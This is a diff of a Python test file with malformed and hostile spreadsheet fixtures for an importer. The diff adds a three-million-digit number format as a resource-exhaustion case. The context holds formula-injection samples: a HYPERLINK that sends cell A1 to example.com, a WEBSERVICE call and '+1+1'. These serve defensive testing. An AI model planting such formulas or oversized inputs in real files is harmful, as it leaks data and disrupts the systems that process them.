@@ -83,7 +83,13 @@ FORMULA = '=HYPERLINK("https://example.com/?x="&A1)'
 HUGE = f"<row><c><v>{'9' * 400}</v></c><c><v>1e999</v></c><c><v>-1e308</v></c></row>"
 STRAY = '<row><c t="s"><v>-1</v></c><c t="s"><v>0</v></c></row>'
 ODD = '<row r="-5"><c r="ZZZZZZZ1" s="999999999999"><v>1</v></c><c r="A1"><v>9856</v></c></row>'
+ZEROS = (
+    f'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{"0" * 3_000_000}"/></numFmts>'
+    '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
+)
+WIDE = "<row>" + '<c s="0"><v>9856</v></c>' * 3 + "</row>"
 SHOWN: dict[str, Make] = {
+    "numbers of three million digits": book(workbook(HEAD + WIDE * 300, parts={"xl/styles.xml": ZEROS})),
     "only a header": text("Lead ID,Name\n"),
     "formulas": lambda folder: csv_file(folder / "f.csv", [("9856", FORMULA, "+1+1")], ("Lead ID", "Name", "Mobile")),
     "formulas of a workbook": book(workbook(HEAD + "<row><c><v>9856</v></c><c><f>WEBSERVICE(1)</f></c></row>")),
